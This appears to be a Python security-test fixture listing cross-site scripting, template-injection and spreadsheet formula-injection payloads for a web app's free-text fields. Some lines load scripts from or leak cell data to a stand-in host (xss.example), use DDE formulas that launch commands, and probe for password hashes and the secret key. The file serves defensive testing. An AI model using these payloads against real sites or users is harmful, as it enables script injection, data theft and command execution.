"""Cross-site scripting and injection payloads for the free-text fields.

Every payload that could run carries the marker "xss" in its active part (a handler's code, a
URL, an hx-* value, a script's text), so a page that lets one through shows an element or
attribute with the marker (tests/security/test_xss.py looks for them with an HTML parser).
Template-injection payloads compute TEMPLATE_RESULTS if they are ever evaluated; formula
payloads start with a character a spreadsheet would evaluate.
"""

MARKER = "xss"

# Evaluated, these would print a number that appears nowhere else.
TEMPLATE_INJECTION = [
    "{{ 73317331|add:1 }}",
    "{% widthratio 73317331 1 1 %}{{ 73317331|add:'1' }}",
    "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'xss.js' %}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "${73317331+1}",
    "#{73317331+1}",
    "<%= 73317331+1 %>",
    "{{constructor.constructor('alert(\"xss\")')()}}",
    "{{ '<script>alert(\"xss\")</script>'|safe }}",
]
TEMPLATE_RESULTS = ["73317332", "pbkdf2_sha256$", "django-insecure", "/static/xss.js"]

FORMULAS = [
    '=HYPERLINK("http://xss.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://xss.example/?v=",A1),"//a")',
    "=1+1",
    "+49 30 1234567",
]

# The active parts, placed in several contexts below.
ACTIVE = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert('xss')>",
    "<svg onload=alert('xss')>",
    "<svg/onload=alert('xss')>",
    "<body onload=alert('xss')>",
    "<input autofocus onfocus=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "<div onmouseover=\"alert('xss')\">hover me</div>",
    "<a href=\"javascript:alert('xss')\">click</a>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<div hx-get=/xss hx-trigger=load>",
    '<div hx-post="/opportunities/bulk/?xss" hx-trigger="load" hx-vals=\'{"choice":"xss"}\'>',
    "<button hx-on:click=\"alert('xss')\">ok</button>",
]

CONTEXTS = [
    "{}",
    '"><{}',  # out of a double-quoted attribute
    "'>{}",  # out of a single-quoted attribute
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--><!--{}",
]

HANDCRAFTED = [
    # classic script tags
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "<script>/*</script><script>alert('xss')//*/</script>",
    "<script type=module>import('//xss.example/m.js')</script>",
    # event handlers
    "<video><source onerror=\"alert('xss')\"></video>",
    "<audio src=x onerror=alert('xss')>",
    "<marquee onstart=alert('xss')>xss</marquee>",
    "<select autofocus onfocus=alert('xss')></select>",
    "<textarea autofocus onfocus=alert('xss')></textarea>",
    "<form><button formaction=javascript:alert('xss')>send</button></form>",
    "<object data=\"javascript:alert('xss')\"></object>",
    "<embed src=\"javascript:alert('xss')\">",
    '<img src="x" onerror="&#97;lert(\'xss\')">',
    "<img src=x:alert(xss) onerror=eval(src)>",
    "<style onload=alert('xss')></style>",
    "<a onpointerenter=alert('xss')>xss</a>",
    # javascript: and data: URLs
    "javascript:alert('xss')",
    "JaVaScRiPt:alert('xss')",
    " javascript:alert('xss')",
    "<a href=\"JaVaScRiPt:alert('xss')\">x</a>",
    "<a href=\"&#106;avascript:alert('xss')\">x</a>",
    "<a href=\"java&#x09;script:alert('xss')\">x</a>",
    "<a href=\" javascript:alert('xss')\">x</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=",
    "<a href=\"data:text/html,<script>alert('xss')</script>\">x</a>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<base href="//xss.example/">',
    "<link rel=stylesheet href=//xss.example/x.css>",
    # htmx attributes
    "<div hx-get=/admin hx-trigger=load>",
    '<div data-hx-get="/xss" data-hx-trigger="load">',
    "<form hx-post=/xss hx-trigger=load></form>",
    "<img src=x hx-get=/xss hx-trigger=load>",
    '<div hx-swap-oob="true" id="main">xss</div>',
    "<input hx-get=/xss hx-trigger=focus autofocus>",
    '<div hx-headers=\'{"X-xss":"1"}\' hx-get=/xss hx-trigger=load>',
    "<div hx-on::load=\"alert('xss')\"></div>",
    "<div hx-vals='js:{a: alert(\"xss\")}' hx-get=/xss hx-trigger=load></div>",
    # SVG and MathML
    "<svg><script>alert('xss')</script></svg>",
    "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('xss')\"><text x=20 y=20>xss</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert('xss')</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<math href=\"javascript:alert('xss')\">xss</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert('xss')>xss</maction></math>",
    # attribute breakouts
    "\" onmouseover=\"alert('xss')",
    "' onmouseover='alert(`xss`)'",
    "\" autofocus onfocus=\"alert('xss')",
    "` onmouseover=alert('xss') `",
    '" hx-get="/xss" hx-trigger="load',
    "' hx-on:click='alert(\"xss\")",
    "\" style=\"background:url(javascript:alert('xss'))",
    "\"/><svg onload=alert('xss')>",
    # parser confusion
    "<!--<script>alert('xss')</script>-->",
    "<![CDATA[<script>alert('xss')</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\"></noscript>",
    "<template><script>alert('xss')</script></template>",
    "<xmp><script>alert('xss')</script></xmp>",
    "<plaintext><script>alert('xss')</script>",
    "<style>@import '//xss.example/x.css';</style>",
    '<p style="behavior:url(xss.htc)">xss</p>',
    # script-string contexts
    "';alert('xss');//",
    "\";alert('xss');//",
    "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    # Unicode look-alikes and line breaks
    "＜script＞alert('xss')＜/script＞",
    "line one\n<script>alert('xss')</script>\nline three",
    "\u2028<script>alert('xss')</script>\u2029",
]


def _payloads() -> list[str]:
    found = list(HANDCRAFTED)
    for context in CONTEXTS:
        for active in ACTIVE:
            found.append(context.format(active))
    found += TEMPLATE_INJECTION + FORMULAS
    return list(dict.fromkeys(found))


PAYLOADS = _payloads()
assert len(PAYLOADS) >= 100, len(PAYLOADS)
